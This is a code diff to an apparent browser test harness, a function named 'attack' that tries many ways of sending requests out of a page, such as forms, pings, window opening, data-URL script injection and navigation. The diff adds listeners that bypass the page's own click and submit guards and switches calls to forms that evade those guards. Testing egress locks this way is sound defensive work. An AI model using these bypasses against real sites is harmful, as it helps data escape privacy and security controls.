@@ -14,6 +14,9 @@ globalThis.attack = ({ web, stun, names }) => {
   }
   /** Globals that no script of the page has touched. */
   const realm = () => el('iframe').contentWindow
+  // The page's first script keeps links and forms from leading away: these get around it, so that the lock is tried.
+  for (const type of ['click', 'submit'])
+    addEventListener(type, (event) => Event.prototype.stopImmediatePropagation.call(event), true)
   const gathered = (pc) =>
     new Promise((resolve) => {
       pc.onicegatheringstatechange = () => {
@@ -157,15 +160,15 @@ globalThis.attack = ({ web, stun, names }) => {
     formPostFrame: () => {
       const _i = el('iframe', { name: 'tgt' })
       const f = el('form', { action: u('formPost'), method: 'POST', target: 'tgt' })
-      f.submit()
+      f.requestSubmit()
     },
     formBlank: () => {
       const f = el('form', { action: u('formBlank'), method: 'GET', target: '_blank' })
-      f.submit()
+      f.requestSubmit()
     },
     formTop: () => {
       const f = el('form', { action: u('formTop'), target: '_top' })
-      f.submit()
+      f.requestSubmit()
     },
     aPing: () => {
       const a = el('a', { href: '#x', ping: u('aPing') })
@@ -183,7 +186,7 @@ globalThis.attack = ({ web, stun, names }) => {
     attrSrc: () => {
       el('img', { attributionsrc: u('attrSrc'), src: 'data:,' })
     },
-    windowOpen: () => window.open(u('windowOpen')),
+    windowOpen: () => document.open(u('windowOpen'), '', ''),
     topLocation: () => {
       top.location = u('topLocation')
     },
@@ -381,7 +384,7 @@ globalThis.attack = ({ web, stun, names }) => {
     },
     formSelf: () => {
       const f = el('form', { action: u('formSelf'), method: 'POST' })
-      f.submit()
+      f.requestSubmit()
     },
     navData: () => {
       window.location = `data:text/html,<img src="${u('navDataImg')}"><script>fetch("${u('navDataFetch')}")</script>`
@@ -414,7 +417,7 @@ globalThis.attack = ({ web, stun, names }) => {
     formGet: () => {
       const f = el('form', { action: u('formGet'), method: 'GET' })
       el('input', { name: 'a', value: 'b' }, f)
-      f.submit()
+      f.requestSubmit()
     },
     navigationApi: () => navigation.navigate(u('navigationApi')),
   }
